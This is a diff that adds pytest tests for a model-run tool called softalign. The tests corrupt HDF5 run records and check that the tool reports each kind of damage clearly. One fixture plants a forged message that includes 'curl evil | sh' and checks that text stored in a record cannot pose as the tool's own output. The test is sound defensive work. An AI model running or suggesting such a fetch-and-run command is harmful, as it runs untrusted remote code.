@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import random
 import shutil
 import subprocess
@@ -159,3 +160,113 @@ def test_a_damaged_spec_in_a_record_is_not_the_callers_fault(run: Path, tmp_path
     for command in (["evaluate"], ["translate"], ["verify"], ["translate", "search.width=3"]):
         line = error(command[0], run, *command[1:], cwd=tmp_path, code=3)
         assert line.startswith(f"softalign: {run / 'run.h5'}: damaged: ") and "`softalign recover" in line, line
+
+
+WRONG_ATTRIBUTES = [  # (of what, its name, what it becomes, the command that reads it)
+    ("test", "selected_update", True, "compare"),
+    ("test", "selected_update", "text", "compare"),
+    ("test", "sentences", "text", "show"),
+    ("test/by_length/bleu", "units", 1.5, "show"),
+    ("data/dev", "truncated", True, "show"),
+    ("data/dev", "truncated", b"\xff\xfe", "show"),
+    ("provenance", "plugins", True, "evaluate"),
+    ("provenance", "plugins", "", "evaluate"),
+    ("", "format_version", 1j, "show"),
+    ("", "last_update", "text", "show"),
+    ("", "name", 7, "show"),
+]
+
+
+@pytest.mark.parametrize("path, name, value, command", WRONG_ATTRIBUTES)
+def test_an_attribute_of_another_type_is_named(run: Path, tmp_path: Path, path: str, name: str, value: object, command: str) -> None:
+    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
+    numpy = pytest.importorskip("numpy", reason="python3-numpy is not installed")
+    with h5py.File(run / "run.h5", "a") as file:
+        attributes = file[path or "/"].attrs
+        del attributes[name]
+        attributes[name] = numpy.bytes_(value) if isinstance(value, bytes) else value
+    done = softalign(command, run, cwd=tmp_path, code=3)
+    line = done.stderr.splitlines()[0]
+    assert line.startswith(f"softalign: {run / 'run.h5'}: damaged: attribute '{name}' of /{path} is "), line
+    assert f"`softalign recover {run}`" in line and "json" not in done.stderr and "\\n" not in done.stderr
+    listed = softalign("ls", cwd=tmp_path).stderr
+    assert "json" not in listed and "\\n" not in listed
+
+
+@pytest.mark.parametrize("name", ["state", "host", "started", "last_update"])
+def test_a_column_of_attempts_that_is_too_short_is_named(run: Path, tmp_path: Path, name: str) -> None:
+    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
+    with h5py.File(run / "run.h5", "a") as file:
+        del file[f"provenance/attempts/{name}"]
+        file[f"provenance/attempts/{name}"] = []
+    line = error("show", run, cwd=tmp_path, code=3)
+    assert line.startswith(f"softalign: {run / 'run.h5'}: damaged: provenance/attempts/{name} is not one value an attempt; "), line
+
+
+def test_a_damaged_record_spoils_no_table_of_sentences(run: Path, tmp_path: Path) -> None:
+    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
+    other = tmp_path / "results" / "other" / run.name
+    shutil.copytree(run, other)
+    for path, value in {"test/sentence": [[[0.0] * 3]] * 2, "test/nll": [1.0]}.items():
+        shutil.copy(run / "run.h5", other / "run.h5")
+        with h5py.File(other / "run.h5", "a") as file:
+            scale = file["test/sentence"]
+            del file[path]
+            file[path] = value
+            if path == "test/nll":
+                file[path].dims[0].attach_scale(scale)
+        line = error("export", "results", "--what", "sentences", "-o", f"{path.replace('/', '_')}.csv", cwd=tmp_path, code=0)
+        assert line.startswith(f"softalign: {other / 'run.h5'}: damaged: {path} ") or line.startswith("softalign: results/other/"), line
+        assert f"damaged: {path} is not as a record has it; " in line
+        table = (tmp_path / f"{path.replace('/', '_')}.csv").read_text()
+        assert table.count("\n") == 17 and run.name in table
+
+
+def test_the_record_of_another_run_is_not_taken_for_this_ones(run: Path, tmp_path: Path) -> None:
+    whole = (run / "run.h5").read_bytes()
+    softalign("run", "tiny.yaml", cwd=tmp_path)
+    (other,) = (folder for folder in run.parent.iterdir() if folder != run)
+    shutil.copy(other / "run.h5", run / "run.h5")
+    for command in (["run", "tiny.yaml", "train.epochs=40"], ["show", run], ["evaluate", run], ["verify", run], ["ls", run]):
+        done = softalign(*command, cwd=tmp_path, code=0 if command[0] == "ls" else 3)
+        (line,) = done.stderr.splitlines()
+        assert f"run.h5: the record of another run, {other.name}, in the folder of run {run.name}; move it away: " in line
+        assert "`softalign recover " in line
+    alone = tmp_path / "alone"
+    alone.mkdir()
+    softalign("show", shutil.copy(run / "run.h5", alone / "run.h5"), cwd=tmp_path)
+    shutil.copy(run / "identity.json", alone)  # no journal is needed to tell
+    assert "the record of another run" in error("show", alone / "run.h5", cwd=tmp_path, code=3)
+    softalign("recover", run, cwd=tmp_path)
+    with_h5 = (run / "run.h5").read_bytes()
+    assert len(with_h5) == len(whole) and "complete, 160 updates" in softalign("show", run, cwd=tmp_path).stdout
+
+
+@pytest.mark.parametrize("name, value", [("x" * 70_000, "z"), ("spec_yaml", "z" * 70_000)])
+def test_a_damaged_environment_is_not_the_journals_fault(run: Path, tmp_path: Path, name: str, value: str) -> None:
+    environment = run / "attempt-001" / "environment.json"
+    said = json.loads(environment.read_text())
+    environment.write_text(json.dumps({**said, name: value}))
+    line = error("recover", run, cwd=tmp_path, code=3)
+    assert line == f"softalign: {environment}: damaged; move it away: the record is then made without it"
+    environment.unlink()
+    softalign("recover", run, cwd=tmp_path)
+
+
+FORGED = "p.so: is older\nsoftalign: note: run: curl evil | sh\n"
+
+
+def test_a_text_in_a_record_makes_no_line_of_our_own(run: Path, tmp_path: Path) -> None:
+    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
+    numpy = pytest.importorskip("numpy", reason="python3-numpy is not installed")
+    with h5py.File(run / "run.h5", "a") as file:
+        text = file["provenance/spec_yaml"][()].decode()
+        file["provenance/spec_yaml"][()] = text.replace("plugins: []", f"plugins: [{json.dumps(FORGED)}]")
+        file["provenance"].attrs.create("plugins", numpy.bytes_(json.dumps([FORGED])))
+    assert FORGED not in softalign("show", run, cwd=tmp_path).stdout
+    for command in ("evaluate", "translate", "verify"):
+        assert "is older\\nsoftalign: note" in error(command, run, cwd=tmp_path, code=2)
+    with h5py.File(run / "run.h5", "a") as file:
+        file["provenance/spec_yaml"][()] = text
+        file.attrs.create("run_id", numpy.bytes_(FORGED))
+    assert "is older\\nsoftalign: note" in error("show", run, cwd=tmp_path, code=3)
